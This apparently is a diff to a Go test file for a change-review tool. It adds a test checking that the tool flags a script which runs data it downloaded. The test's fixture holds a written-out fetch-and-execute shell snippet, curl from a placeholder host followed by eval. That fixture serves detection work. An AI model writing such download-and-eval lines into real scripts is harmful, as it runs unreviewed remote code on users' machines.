@@ -41,8 +41,14 @@ index 0000000..1234567
 // a store in a temporary state folder.
 func newAttentionRoot(t *testing.T) (*Workbench, *Decision) {
 	t.Helper()
+	return newAttentionRootWith(t, attentionDiff)
+}
+
+// newAttentionRootWith is newAttentionRoot with diff as the change.
+func newAttentionRootWith(t *testing.T, diff string) (*Workbench, *Decision) {
+	t.Helper()
 	dir := sampleCopy(t, "p")
-	if err := os.WriteFile(filepath.Join(dir, "change.diff"), []byte(attentionDiff), 0o644); err != nil {
+	if err := os.WriteFile(filepath.Join(dir, "change.diff"), []byte(diff), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	ctx := storeContext(t, loadCopy(t, dir), time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC))
@@ -156,4 +162,31 @@ func testDecisionOkToTestConfirmsUnreviewed(t *testing.T) {
 	if d.Capturing() || r.prompt == nil {
 		t.Errorf("O with everything reviewed: confirming %v, prompt %v", d.Capturing(), r.prompt != nil)
 	}
+}
+
+func TestDecisionShowsWhereDataCameFrom(t *testing.T) {
+	screentest.InBubble(t, testDecisionShowsWhereDataCameFrom)
+}
+
+// An item found by following data names the line the data came from, on a
+// row of its own that leads to that line of the diff.
+func testDecisionShowsWhereDataCameFrom(t *testing.T) {
+	diff := "diff --git a/scripts/boot.sh b/scripts/boot.sh\nnew file mode 100644\n--- /dev/null\n+++ b/scripts/boot.sh\n@@ -0,0 +1,4 @@\n" +
+		"+#!/bin/sh\n+S=$(curl -s https://x.invalid/s)\n+echo fetched\n+eval \"$S\"\n"
+	r, d := newAttentionRootWith(t, diff)
+	s := ansi.Strip(r.Render())
+	for _, want := range []string{"runs what line 2 downloaded", "scripts/boot.sh:4", "data from line 2: S=$(curl -s https://x.invalid/s)"} {
+		if !strings.Contains(s, want) {
+			t.Errorf("screen lacks %q:\n%s", want, s)
+		}
+	}
+	for _, row := range d.list.rows {
+		if strings.Contains(ansi.Strip(row.text), "data from line 2") {
+			if row.target == nil || row.target.Line != 2 || row.target.Path != "scripts/boot.sh" {
+				t.Errorf("the source row leads to %+v, want scripts/boot.sh line 2", row.target)
+			}
+			return
+		}
+	}
+	t.Errorf("no source row")
 }
